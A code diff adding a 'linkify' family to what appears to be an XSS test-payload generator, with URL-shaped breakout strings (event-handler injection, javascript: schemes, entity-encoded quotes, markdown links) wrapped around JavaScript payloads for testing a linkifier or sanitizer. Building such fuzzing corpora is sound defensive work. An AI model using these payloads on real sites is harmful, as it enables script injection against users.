@@ -343,10 +343,26 @@ def polyglots() -> list[str]:
     ]
 
 
+def linkify() -> list[str]:
+    """Links the linkifier makes on any TLD and bare domain names, with breakout attempts around them."""
+    shapes = [
+        'https://web.dev/"onmouseover="{js}', "https://web.dev/'onmouseover='{js}", 'web.dev/"><img src=x onerror={js}>',
+        "example.xyz/<script>{js}</script>", 'https://example.app/#"><svg onload={js}>',
+        'at http://[::1"onmouseover={js}//]/', "https://spam.xyz/a?x=</a><img src=x onerror={js}>",
+        "javascript:{js}//example.xyz", "javascript://example.app/%0a{js}", '**https://web.dev/x" onclick="{js}**',
+        "[https://web.dev/x](javascript:{js})", '<a href="https://web.dev/">https://web.dev/"onfocus={js} autofocus</a>',
+        'пример.рф/"onmouseover="{js}', "https://web.dev/x&quot;onmouseover={js}",
+        "https://web.dev/x&#34;onmouseover={js}", "data.xyz:text/html,<script>{js}</script>",
+        "`https://web.dev/`<img src=x onerror={js}>", "ann.blog`<svg onload={js}>`",
+    ]
+    return [shape.format(js=js) for shape in shapes for js in JS2]
+
+
 FAMILIES = {
     "script-tag": script_tags, "event-handler": event_handlers, "url-scheme": urls, "svg-mathml": svg_mathml,
     "mutation": mutation, "markdown": markdown_tricks, "attribute-breakout": attribute_breakouts,
     "template-injection": template_injection, "css": css, "closer": closers, "polyglot": polyglots,
+    "linkify": linkify,
 }
 
 
